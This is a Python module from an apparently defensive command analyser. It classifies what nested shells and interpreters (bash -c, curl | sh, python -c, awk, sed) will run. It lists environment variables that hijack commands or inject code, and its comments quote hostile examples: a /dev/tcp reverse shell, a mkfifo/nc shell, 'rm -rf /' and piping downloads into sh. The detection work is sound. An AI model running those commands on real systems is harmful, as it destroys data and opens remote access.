"""Nested shells and interpreters: what `bash -c '...'`, `sh < x`, `curl ... | sh`, `python3 -c`, `node -e`,
`perl -e`, heredocs into `python3 -`, awk's system() and sed's `e` command run."""

from __future__ import annotations

import re
import shlex
from typing import TYPE_CHECKING

from capfence_sh.actions import Access
from capfence_sh.parse import inline, paths
from capfence_sh.parse.options import OptSpec, parse_options
from capfence_sh.parse.programs import handles
from capfence_sh.parse.words import Field, literal

if TYPE_CHECKING:
    from capfence_sh.parse.walker import Call, Outcome, StdinSource

SHELLS = ("bash", "sh", "dash", "zsh", "ksh", "mksh", "ash", "yash", "posh", "rbash", "oksh", "loksh", "fish",
          "tcsh", "csh", "pdksh", "ksh93", "bosh")
_DECODERS = ("data.decode",)
# Environment variables whose value is a command another program will run.
COMMAND_VARIABLES = frozenset({
    "PAGER", "GIT_PAGER", "MANPAGER", "SYSTEMD_PAGER", "EDITOR", "VISUAL", "GIT_EDITOR", "GIT_SEQUENCE_EDITOR",
    "SVN_EDITOR", "GIT_SSH_COMMAND", "GIT_SSH", "GIT_EXTERNAL_DIFF", "GIT_ASKPASS", "SSH_ASKPASS", "SUDO_ASKPASS",
    "LESSOPEN", "LESSCLOSE", "PROMPT_COMMAND", "BROWSER", "GIT_PROXY_COMMAND", "RSYNC_RSH", "CVS_RSH",
    "FCEDIT", "TERMINAL", "DIFF_VIEWER",
})
# Variables that load code into every program started with them.
INJECTION_VARIABLES = frozenset({"LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES",
                                 "DYLD_LIBRARY_PATH", "BASH_ENV", "ENV", "PYTHONSTARTUP", "NODE_OPTIONS",
                                 "PERL5OPT", "RUBYOPT", "PYTHONINSPECT", "SHELLOPTS", "BASHOPTS", "PS4",
                                 "GCONV_PATH", "PERL5DB", "PYTHONWARNINGS"})


# Options in these variables that make the program load code; the others (`--max-old-space-size`) only tune it.
_CODE_LOADING_OPTIONS: dict[str, tuple[str, ...]] = {
    "NODE_OPTIONS": ("-r", "--require", "--import", "--loader", "--experimental-loader"),
    "PERL5OPT": ("-M", "-m", "-d", "-I"),
    "RUBYOPT": ("-r", "-I"),
}


def _loads_code(name: str, value: Field) -> bool:
    options = _CODE_LOADING_OPTIONS.get(name)
    if options is None or not value.known:
        return True
    return any(word == option or word.startswith(option + "=") or (len(option) == 2 and word.startswith(option))
               for word in value.value.split() for option in options)


def capfence_variables(call: Call, names) -> None:
    """Any way of setting, exporting or unsetting capfence's own variables (`unset CAPFENCE_POLICY`,
    `read CAPFENCE_POLICY`, `printf -v CAPFENCE_AUDIT ...`) changes how the gate behaves for later commands."""
    for name in names:
        if name.startswith("CAPFENCE_"):
            call.emit(("capfence.admin",), note=f"{name} changes capfence's own configuration")


def dangerous_assignments(call: Call, assignments: list[tuple[str, Field]]) -> None:
    """`PAGER='sh -c "rm -rf /"' git log`: a variable that another program runs as a command."""
    for name, value in assignments:
        if name.startswith("CAPFENCE_"):
            # capfence reads its policy, audit log and identity from these: changing them is administering it.
            call.emit(("capfence.admin",), note=f"{name} changes capfence's own configuration")
        elif name in COMMAND_VARIABLES:
            if value.known:
                # LESSOPEN='|cmd %s': the command after the pipe marks, with %s for the file.
                text = value.value.lstrip("|") if name in ("LESSOPEN", "LESSCLOSE") else value.value
                if text.strip():
                    call.run_script(text, f"{name}=")
            else:
                call.dynamic(f"{name} is set to a command not known statically")
        elif name in INJECTION_VARIABLES:
            if name == "PS4" and "$(" not in value.value and "`" not in value.value:
                continue
            if not _loads_code(name, value):
                continue
            if name in ("BASH_ENV", "ENV") and value.known:
                path = paths.normalise(value.value, call.cwd)
                content = call.state.shared.files.get(path)
                if content is not None:
                    call.run_script(content, f"{name}=")
                    continue
            call.dynamic(f"{name} makes programs load code: {value.value}", capabilities=("code.dynamic",))
        elif name.startswith("GIT_CONFIG_VALUE_") or name.startswith("GIT_CONFIG_PARAMETERS"):
            call.dynamic(f"{name} injects git configuration", capabilities=("vcs.config", "code.dynamic"))


_SHELL_LONG_WITH_VALUE = frozenset({"rcfile", "init-file", "debugger", "dump-po-strings"})


@handles(*SHELLS)
def shell(call: Call) -> Outcome:
    args = call.args
    command_mode = stdin_mode = interactive = errexit = False
    k = 0
    while k < len(args):
        arg = args[k]
        text = arg.value
        if not arg.known:
            break
        if text == "--" or text == "-":
            k += 1
            break
        if text.startswith("--"):
            k += 2 if text[2:] in _SHELL_LONG_WITH_VALUE else 1
            continue
        if (text.startswith("-") or text.startswith("+")) and len(text) > 1:
            letters = text[1:]
            consumes = 0
            for letter in letters:
                if letter == "c":
                    command_mode = True
                elif letter == "s":
                    stdin_mode = True
                elif letter == "i":
                    interactive = True
                elif letter == "e" and text.startswith("-"):
                    errexit = True
                elif letter in "oO":
                    consumes += 1
            if consumes and k + 1 < len(args) and args[k + 1].value == "errexit" and text.startswith("-"):
                errexit = True
            k += 1 + consumes
            continue
        break
    operands = args[k:]
    shell_name = call.program
    if command_mode:
        if not operands:
            return call.dynamic(f"{shell_name} -c without a command")
        script_field = operands[0]
        action = call.emit(("shell.exec",), note=f"{shell_name} -c")
        if not script_field.known or script_field.decoded:
            unknown_code(call, script_field, f"{shell_name} -c runs a command not known statically")
            return call.outcome(action)
        rest = operands[2:]
        positional = tuple(f.value for f in rest) if all(f.known for f in rest) else None
        # `bash -c 'rm -rf "$0"' /x`: the word after the command is $0.
        return _with_action(call.run_script(script_field.value, f"{shell_name} -c", positional=positional,
                                            errexit=errexit or None,
                                            arg0=operands[1] if len(operands) > 1 else None), action)
    if operands and not stdin_mode:
        script_path = operands[0]
        action = call.emit(("shell.exec",), call.target(script_path, Access.EXEC), note=f"{shell_name} runs a script file")
        if script_path.known:
            path = paths.normalise(script_path.value, call.cwd)
            if path in call.state.shared.downloaded:
                call.emit(("net.exec",), note=f"{shell_name} runs {path}, downloaded earlier in this script")
            elif path in call.state.shared.fifos:
                call.dynamic(f"{shell_name} runs what another process writes into the named pipe {path}")
            elif path in call.state.shared.files:
                content = call.state.shared.files[path]
                if content is None:
                    call.dynamic(f"runs {path}, written earlier in this script with content not known statically")
                else:
                    rest = operands[1:]
                    positional = tuple(f.value for f in rest) if all(f.known for f in rest) else None
                    call.run_script(content, f"{shell_name} {script_path.value}", positional=positional)
            elif path in ("/dev/stdin", "/proc/self/fd/0", "/dev/fd/0"):
                run_stdin_as(call, shell_name)
        elif script_path.value.startswith("<(") or not script_path.known:
            _process_substitution_script(call, script_path, shell_name)
        return call.outcome(action)
    network = [r.target for info in call.infos for r in info.redirects
               if r.target.startswith(("/dev/tcp/", "/dev/udp/"))]
    if network:
        # `bash -i >& /dev/tcp/host/4444 0>&1`: a shell whose input and output are a network connection.
        return call.outcome(call.emit(("shell.exec", "net.exec"), note=f"{shell_name} wired to {network[0]}"))
    if interactive and call.stdin is None:
        return call.outcome(call.emit(("shell.exec",), note=f"interactive {shell_name}"))
    action = call.emit(("shell.exec",), note=f"{shell_name} reads commands from standard input")
    run_stdin_as(call, shell_name)
    return call.outcome(action)


def _with_action(outcome: Outcome, action) -> Outcome:
    return outcome if outcome.action is not None else type(outcome)(action, outcome.stdout)


def _process_substitution_script(call: Call, script_path: Field, shell_name: str) -> None:
    """`bash <(curl https://x.sh)`: the script is another command's output."""
    if script_path.fetched:
        call.emit(("net.exec",), note=f"{shell_name} runs a downloaded script")
    else:
        call.dynamic(f"{shell_name} runs a script produced at run time: {script_path.value}")


def unknown_code(call: Call, code: Field, why: str, capabilities: tuple[str, ...] = ("shell.dynamic",)) -> None:
    """Code that is not known statically: downloaded at run time (`bash -c "$(curl -fsSL URL)"`) it is net.exec,
    like `curl URL | sh`; otherwise it is dynamic."""
    if code.fetched:
        call.emit(("net.exec",), note=f"{why}: it is downloaded at run time")
    else:
        call.dynamic(why, capabilities=capabilities)


def run_stdin_as(call: Call, interpreter: str) -> None:
    """A shell or interpreter reading its program from stdin: analyse it if known, else say where it comes from."""
    stdin = call.stdin
    language = _language(interpreter)
    if stdin is None:
        call.dynamic(f"{interpreter} reads a program from the terminal or caller's stdin")
        return
    if stdin.content is not None:
        if language == "shell":
            call.run_script(stdin.content, f"{interpreter} <{stdin.kind}>")
        else:
            _inline(call, language, stdin.content, f"{interpreter} <{stdin.kind}>")
        return
    if "net.fetch" in stdin.capabilities:
        call.emit(("net.exec",), note=f"downloaded content is piped into {interpreter}")
        return
    if any(c in stdin.capabilities for c in _DECODERS):
        call.dynamic(f"decoded data is piped into {interpreter}")
        return
    if stdin.kind == "file" and stdin.path in call.state.shared.fifos:
        # `mkfifo f; sh < f | nc host 4444 > f`: whatever another process writes into the pipe gets run.
        call.dynamic(f"{interpreter} runs what another process writes into the named pipe {stdin.path}")
        return
    if stdin.kind == "file":
        # `bash < script.sh` runs a file, like `bash script.sh`.
        call.emit(("shell.exec" if language == "shell" else "code.exec",),
                  call.target(literal(stdin.path), Access.EXEC) if stdin.path else [])
        return
    call.dynamic(f"{interpreter} runs a program produced at run time by {stdin.program or 'a command'}")


def run_file_content(call: Call, content: str, path: str, args: list[Field]) -> None:
    first = content.split("\n", 1)[0]
    language = "shell"
    if first.startswith("#!"):
        interpreter = first[2:].strip().split()
        if interpreter and interpreter[0].endswith("/env") and len(interpreter) > 1:
            interpreter = interpreter[1:]
        if interpreter:
            from capfence_sh.parse.programs import normalise_program

            language = _language(normalise_program(interpreter[0]))
    if language == "shell":
        positional = tuple(a.value for a in args) if all(a.known for a in args) else None
        call.run_script(content, f"runs {path}", positional=positional)
    else:
        _inline(call, language, content, f"runs {path}")


_LANGUAGES = {"python": "python", "node": "node", "deno": "node", "bun": "node", "perl": "perl", "ruby": "ruby",
              "irb": "ruby", "php": "php", "lua": "lua", "rscript": "r", "r": "r", "osascript": "osascript",
              "awk": "awk", "gawk": "awk", "mawk": "awk", "nawk": "awk", "busybox": "shell", "tclsh": "tcl",
              "wish": "tcl", "expect": "tcl", "tcl": "tcl", "julia": "julia", "pwsh": "powershell", "powershell": "powershell"}


def _language(program: str) -> str:
    if program in SHELLS:
        return "shell"
    return _LANGUAGES.get(program, "unknown")


def _inline(call: Call, language: str, code: str, label: str) -> None:
    """Emit what an inline program does, and analyse the commands it runs."""
    if language in ("unknown", "julia", "powershell"):
        call.dynamic(f"{label}: a {language} program cannot be analysed", capabilities=("code.dynamic",))
        return
    findings = inline.scan(language, code, call.ctx.home)
    capabilities = ["code.inline", *sorted(findings.capabilities)]
    targets = []
    for path, recursive in findings.deletes:
        capabilities.append("fs.delete")
        targets.extend(_code_target(call, path, Access.DELETE, recursive))
    for path in findings.writes:
        capabilities.append("fs.write")
        targets.extend(_code_target(call, path, Access.WRITE))
    for path in findings.reads:
        capabilities.append("fs.read")
        targets.extend(_code_target(call, path, Access.READ))
    for path in findings.perms:
        capabilities.append("fs.perm")
        targets.extend(_code_target(call, path, Access.PERM))
    summary = code.strip().replace("\n", "; ")
    call.emit(tuple(dict.fromkeys(capabilities)), targets, note=f"{label}: {summary[:160]}",
              flags=frozenset(findings.flags))
    for reason in findings.dynamic:
        call.dynamic(f"{label}: {reason}", capabilities=("code.dynamic",))
    for script in findings.scripts:
        call.run_script(script, f"{label} runs")
    for argv in findings.argvs:
        if argv:
            call.run_argv([literal(a) for a in argv], f"{label} runs", stdin=None, share_state=False)


def _code_target(call: Call, path: str | None, access: Access, recursive: bool = False):
    if path is None:
        return call.target(Field("{path computed by the program}", False, False, "", "", False), access,
                           recursive=recursive)
    return call.target(literal(path), access, recursive=recursive)


_PYTHON = OptSpec(short_with_value="cmWXQ", aliases={"c": "command", "m": "module"})
_NODE = OptSpec(short_with_value="eprC", long_with_value=frozenset({"eval", "print", "require", "import", "input-type",
                                                                    "conditions", "loader", "experimental-loader"}),
                aliases={"e": "eval", "p": "print", "r": "require"})
_PERL = OptSpec(short_with_value="eEMmIFlx0CdD", aliases={"e": "eval", "E": "eval"})
_RUBY = OptSpec(short_with_value="erIECFxK", aliases={"e": "eval"})
_PHP = OptSpec(short_with_value="rfBRcdzE", aliases={"r": "eval", "R": "eval-each"})
_LUA = OptSpec(short_with_value="el", aliases={"e": "eval"})
_R = OptSpec(short_with_value="e", long_with_value=frozenset({"file"}), aliases={"e": "eval"})


@handles("python", "pypy", "ipython", "jython")
def python(call: Call) -> Outcome:
    args = call.args
    # Options end at -c, -m, "-" or the script path; everything after belongs to the program.
    k = 0
    while k < len(args):
        arg = args[k]
        text = arg.value
        if not arg.known:
            if arg.fetched or "<(" in arg.value:
                return _run_code_file(call, arg, "python")
            return call.dynamic("python invoked with an argument not known statically")
        if text == "-":
            action = call.emit(("code.inline",), note="python reads its program from stdin")
            run_stdin_as(call, "python")
            return call.outcome(action)
        if text.startswith("-c") or (text.startswith("-") and not text.startswith("--") and "c" in text[1:] and
                                      text[1:].replace("c", "").isalpha() and text.endswith("c")):
            code = text[2:] if text.startswith("-c") and len(text) > 2 else (args[k + 1] if k + 1 < len(args) else None)
            if isinstance(code, str):
                code = literal(code)
            if code is None:
                return call.dynamic("python -c without code")
            if not code.known or code.decoded:
                unknown_code(call, code, "python -c with code not known statically", ("code.dynamic",))
                return call.outcome(call.analyser.actions[-1])
            _inline(call, "python", code.value, "python -c")
            return call.outcome(call.analyser.actions[-1] if call.analyser.actions else None)
        if text.startswith("-m"):
            module = text[2:] or (args[k + 1].value if k + 1 < len(args) else "")
            module_args = args[k + 2 :] if text == "-m" else args[k + 1 :]
            return _python_module(call, module, module_args)
        if text.startswith("--"):
            k += 1
            continue
        if text.startswith("-"):
            k += 2 if text[1:2] in ("W", "X", "Q") and len(text) == 2 else 1
            continue
        return _run_code_file(call, arg, "python")
    if call.stdin is not None:
        action = call.emit(("code.inline",), note="python reads its program from stdin")
        run_stdin_as(call, "python")
        return call.outcome(action)
    return call.outcome(call.emit(("code.exec",), note="interactive python"))


def _python_module(call: Call, module: str, args: list[Field]) -> Outcome:
    if module in ("pip", "pip3"):
        from capfence_sh.parse.classify import package_manager

        call.program = "pip"
        call.argv = [literal("pip"), *args]
        return package_manager(call)
    if module == "http.server" or module == "SimpleHTTPServer":
        return call.outcome(call.emit(("net.listen",), note=f"python -m {module}"))
    if module in ("venv", "virtualenv"):
        targets = [t for f in args if not f.value.startswith("-") for t in call.target(f, Access.WRITE)]
        return call.outcome(call.emit(("fs.write",), targets, subcommand=module))
    if module == "json.tool" or module in ("site", "platform", "sysconfig", "this", "timeit", "compileall",
                                           "py_compile", "tokenize", "dis", "pydoc", "calendar", "zipfile", "tarfile",
                                           "base64", "uuid", "webbrowser", "ensurepip"):
        reads = [t for f in args if f.known and not f.value.startswith("-") for t in call.target(f, Access.READ)]
        return call.outcome(call.emit(("code.exec",) + (("fs.read",) if reads else ()), reads, subcommand=module))
    if module in ("twine",):
        call.program = "twine"
        call.argv = [literal("twine"), *args]
        from capfence_sh.parse.classify import publish_tools

        return publish_tools(call)
    return call.outcome(call.emit(("code.exec",), subcommand=module, note=f"python -m {module}"))


def _run_code_file(call: Call, path_field: Field, language: str) -> Outcome:
    if language == "python" and path_field.known and path_field.value.rsplit("/", 1)[-1] == "manage.py":
        # `python manage.py flush`: Django's management commands, judged as `./manage.py flush` is.
        from capfence_sh.parse.classify import framework_command

        rest = call.args[call.args.index(path_field) + 1 :] if path_field in call.args else []
        return framework_command(call, [a.value for a in rest], path_field)
    action = call.emit(("code.exec",), call.target(path_field, Access.EXEC), note=f"{language} runs {path_field.value}")
    if path_field.known:
        path = paths.normalise(path_field.value, call.cwd)
        if path in call.state.shared.downloaded:
            call.emit(("net.exec",), note=f"{language} runs {path}, downloaded earlier in this script")
        elif path in call.state.shared.files:
            content = call.state.shared.files[path]
            if content is None:
                call.dynamic(f"runs {path}, written earlier in this script with content not known statically")
            else:
                _inline(call, language, content, f"{language} {path_field.value}")
        elif path in ("/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"):
            run_stdin_as(call, language)
    elif path_field.fetched or "<(" in path_field.value:  # `python3 <(curl -s URL)` is /dev/fd/<(...)
        _process_substitution_script(call, path_field, language)
    return call.outcome(action)


def _interpreter(call: Call, spec: OptSpec, language: str, eval_names: tuple[str, ...] = ("eval",),
                 file_option: str = "") -> Outcome:
    parsed = parse_options(call.args, spec)
    codes = parsed.all_values(*eval_names)
    if codes:
        for code in codes:
            if not code.known or code.decoded:
                unknown_code(call, code, f"{call.program} runs code not known statically", ("code.dynamic",))
            else:
                _inline(call, language, code.value, f"{call.program} -e")
        _in_place_edits(call, parsed, language)
        return call.outcome(call.analyser.actions[-1] if call.analyser.actions else None)
    if file_option and parsed.value(file_option) is not None:
        return _run_code_file(call, parsed.value(file_option), language)  # type: ignore[arg-type]
    operands = parsed.operands
    if operands and not (operands[0].known and operands[0].value == "-"):
        return _run_code_file(call, operands[0], language)
    if call.stdin is not None or operands:
        action = call.emit(("code.inline",), note=f"{call.program} reads its program from stdin")
        run_stdin_as(call, language)
        return call.outcome(action)
    return call.outcome(call.emit(("code.exec",), note=f"interactive {call.program}"))


def _in_place_edits(call: Call, parsed, language: str) -> None:
    if language in ("perl", "ruby") and parsed.has("i", "pi"):
        targets = [t for f in parsed.operands for t in call.target(f, Access.WRITE)]
        call.emit(("fs.write",), targets, note=f"{call.program} -i edits files in place")


@handles("node", "nodejs")
def node(call: Call) -> Outcome:
    return _interpreter(call, _NODE, "node", ("eval", "print"))


@handles("deno")
def deno(call: Call) -> Outcome:
    args = call.args
    if args and args[0].known and args[0].value == "eval" and len(args) > 1:
        code = args[-1]
        if not code.known:
            return call.dynamic("deno eval of code not known statically", capabilities=("code.dynamic",))
        _inline(call, "node", code.value, "deno eval")
        return call.outcome(call.analyser.actions[-1])
    if args and args[0].known and args[0].value == "run":
        target = next((a for a in args[1:] if not a.value.startswith("-")), None)
        if target is not None and target.known and target.value.startswith(("http://", "https://")):
            return call.outcome(call.emit(("net.exec",), note="deno runs a remote script"))
    return call.outcome(call.emit(("code.exec",), subcommand=args[0].value if args else ""))


@handles("bun")
def bun(call: Call) -> Outcome:
    args = call.args
    if args and args[0].known and args[0].value in ("-e", "--eval", "-p", "--print") and len(args) > 1:
        code = args[1]
        if not code.known:
            return call.dynamic("bun -e with code not known statically", capabilities=("code.dynamic",))
        _inline(call, "node", code.value, "bun -e")
        return call.outcome(call.analyser.actions[-1])
    from capfence_sh.parse.classify import package_manager

    return package_manager(call)


@handles("perl")
def perl(call: Call) -> Outcome:
    return _interpreter(call, _PERL, "perl")


@handles("ruby", "irb")
def ruby(call: Call) -> Outcome:
    return _interpreter(call, _RUBY, "ruby")


@handles("php")
def php(call: Call) -> Outcome:
    return _interpreter(call, _PHP, "php", ("eval", "eval-each"), file_option="f")


@handles("lua")
def lua(call: Call) -> Outcome:
    return _interpreter(call, _LUA, "lua")


@handles("rscript", "r")
def r_language(call: Call) -> Outcome:
    return _interpreter(call, _R, "r", file_option="file")


@handles("osascript")
def osascript(call: Call) -> Outcome:
    return _interpreter(call, OptSpec(short_with_value="els", aliases={"e": "eval"}), "osascript")


@handles("tclsh", "wish", "expect")
def tcl(call: Call) -> Outcome:
    return _interpreter(call, OptSpec(short_with_value="cf", aliases={"c": "eval"}), "tcl", file_option="f")


@handles("pwsh", "powershell", "julia")
def unsupported_language(call: Call) -> Outcome:
    args = call.args
    if any(a.known and a.value.lower() in ("-c", "-command", "-e", "--eval", "-encodedcommand", "-enc")
           for a in args):
        return call.dynamic(f"{call.program} runs inline code that cannot be analysed", capabilities=("code.dynamic",))
    return call.outcome(call.emit(("code.exec",)))


_AWK = OptSpec(short_with_value="Ffv", long_with_value=frozenset({"field-separator", "file", "assign", "include",
                                                                    "load", "source", "exec"}),
               aliases={"f": "file", "v": "assign", "F": "field-separator"})


@handles("awk", "gawk", "mawk", "nawk")
def awk(call: Call) -> Outcome:
    parsed = parse_options(call.args, _AWK)
    operands = list(parsed.operands)
    program_files = parsed.all_values("file", "exec", "include")
    sources = parsed.all_values("source")
    capabilities = ["fs.read"]
    if not program_files:
        if not operands and not sources:
            return call.outcome(call.emit(("shell.builtin",)))
        program = sources[0] if sources else operands.pop(0)
        if not program.known or program.decoded:
            return call.dynamic("awk program not known statically", capabilities=("code.dynamic",))
        findings = inline.scan("awk", program.value, call.ctx.home)
        for script in findings.scripts:
            call.run_script(script, "awk system()")
        for reason in findings.dynamic:
            call.dynamic(f"awk: {reason}", capabilities=("code.dynamic",))
        write_targets = [t for p in findings.writes if p for t in call.target(literal(p), Access.WRITE)]
        if write_targets:
            capabilities.append("fs.write")
    else:
        write_targets = []
        capabilities.append("code.exec")
    reads = [t for f in operands if "=" not in f.value for t in call.target(f, Access.READ)]
    return call.outcome(call.emit(tuple(capabilities), reads + write_targets))


_SED = OptSpec(short_with_value="efl", long_with_value=frozenset({"expression", "file", "line-length",
                                                                   "in-place"}),
               aliases={"e": "expression", "f": "file", "i": "in-place", "in-place": "in-place",
                        "n": "quiet", "quiet": "quiet", "silent": "quiet"},
               optional_value_long=frozenset({"in-place"}))
_SED_EXEC = re.compile(r"(?:^|[;\n}]|\d|\$|/)\s*e(?:\s+(.+?))?\s*(?:$|[;\n}])|s(.).*?\2.*?\2[gpIiMm0-9w]*e")
_SED_WRITE = re.compile(r"(?:^|[;\n}\d$/])\s*[wW]\s+(\S+)|s(.).*?\2.*?\2[gpIiMme0-9]*w\s*(\S+)")


@handles("sed", "gsed")
def sed(call: Call) -> Outcome:
    args = call.args
    in_place = any(a.known and (a.value.startswith("-i") or a.value.startswith("--in-place") or
                                (a.value.startswith("-") and not a.value.startswith("--") and "i" in a.value[1:]
                                 and "e" not in a.value[1:] and "f" not in a.value[1:])) for a in args)
    # `-i` takes an optional attached suffix only: strip it so the parser does not eat the next word.
    normalised = [literal("-i") if a.known and a.value.startswith("-i") else a for a in args]
    parsed = parse_options(normalised, _SED)
    scripts = parsed.all_values("expression")
    operands = list(parsed.operands)
    if not scripts and not parsed.all_values("file") and operands:
        scripts = [operands.pop(0)]
    for script in scripts:
        if not script.known:
            call.dynamic("sed script not known statically")
            continue
        for match in _SED_EXEC.finditer(script.value):
            command = match.group(1)
            if command:
                call.run_script(command, "sed e")
            else:
                call.dynamic("sed executes its pattern space as a command", capabilities=("code.dynamic",))
    write_paths = [m.group(1) or m.group(3) for s in scripts if s.known for m in _SED_WRITE.finditer(s.value)]
    access = Access.WRITE if in_place else Access.READ
    targets = [t for f in operands for t in call.target(f, access)]
    reads = [t for f in operands for t in call.target(f, Access.READ)] if in_place else []
    writes = [t for p in write_paths if p and p not in ("/dev/stdout", "/dev/stderr")
              for t in call.target(literal(p), Access.WRITE)]
    capabilities = ["fs.read"] + (["fs.write"] if in_place or writes else [])
    return call.outcome(call.emit(tuple(capabilities), targets + reads + writes, flags=frozenset(parsed.flags)))


@handles("at", "batch")
def at(call: Call) -> Outcome:
    parsed = parse_options(call.args, OptSpec(short_with_value="qfmMt", aliases={"f": "file"}))
    if parsed.has("l", "r", "d", "c"):
        return call.outcome(call.emit(("sys.read",)))
    action = call.emit(("shell.exec", "sys.config"), note="schedules commands to run later")
    script_file = parsed.value("file")
    if script_file is not None:
        path = paths.normalise(script_file.value, call.cwd) if script_file.known else ""
        content = call.state.shared.files.get(path) if path else None
        if content is not None:
            call.run_script(content, "at -f")
        else:
            call.emit(("shell.exec",), call.target(script_file, Access.EXEC))
        return call.outcome(action)
    run_stdin_as(call, "sh")
    return call.outcome(action)


def shell_words(text: str) -> list[str] | None:
    try:
        return shlex.split(text)
    except ValueError:
        return None
